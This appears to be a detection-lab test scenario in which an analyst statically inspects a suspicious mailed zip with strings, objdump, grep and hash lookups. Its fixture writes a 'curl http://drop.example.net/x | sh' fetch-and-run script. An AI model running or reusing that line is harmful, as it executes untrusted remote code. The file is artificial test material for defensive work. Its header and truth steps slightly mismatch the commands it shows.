# Everything is taken apart, and nothing is run.
title="Suspicious attachment taken apart by an analyst, never run"
what="ops gets a zip archive that a user found suspicious, copies the message, unpacks it with munpack and unzip, and looks at the program and the script in it with sha256sum, strings, objdump, cat, grep, perl and python3. The checksum is looked up by curl at 203.0.113.67."
host=ws3.example.org user=ops daemons="cron sshd" expect=informational

setup() {
  mkdir -p "$base/out/p"; cc -O1 -s -o "$base/out/p/invoice" "$lab/lib/stand-ins/beacon.c"
  printf '#!/bin/sh\ncurl http://drop.example.net/x | sh\n' > "$base/out/p/run.sh"; chmod +x "$base/out/p/run.sh"
  (cd "$base/out/p" && zip -q ../invoice.zip invoice run.sh)
}
act() {
  small_talk 2
  mail_in --from billing@example.com --to ops+abuse@example.org --subject "Fwd: is this bad?" --attach "$base/out/invoice.zip:application/zip"
  wait_mail ops 1; wait_log 'from=<billing@example.com>'; sleep 1
  ssh_as ops <<'L'
mkdir -p case && cp Maildir/new/* case/ && cd case
munpack -q *
unzip -q invoice.zip
sha256sum invoice run.sh > sums
strings -n 8 invoice | head -20
objdump -d invoice | head -20
cat run.sh
grep -c curl run.sh
perl -ne 'print if /http/' run.sh
awk '/curl/{print NR}' run.sh
python3 -c 'import hashlib; print(hashlib.sha256(open("invoice","rb").read()).hexdigest())'
python3 -c 'import sys; print(len(open(sys.argv[1]).read()))' run.sh
chmod -x invoice run.sh
curl -s -o report.json http://vault.example.net/lookup?sha256=$(cut -c1-64 sums | head -1)
%sleep 1
L
}
truth() {
  mail_step deliver 'to=<ops.abuse@example.org>.*status=sent' 'the message is delivered'
  exec_step unpack 'unzip -q invoice.zip' 'the archive is unpacked'
  exec_step look 'objdump -d invoice' 'the program is read'
  exec_step script 'perl -ne print if' 'the script is read'
}
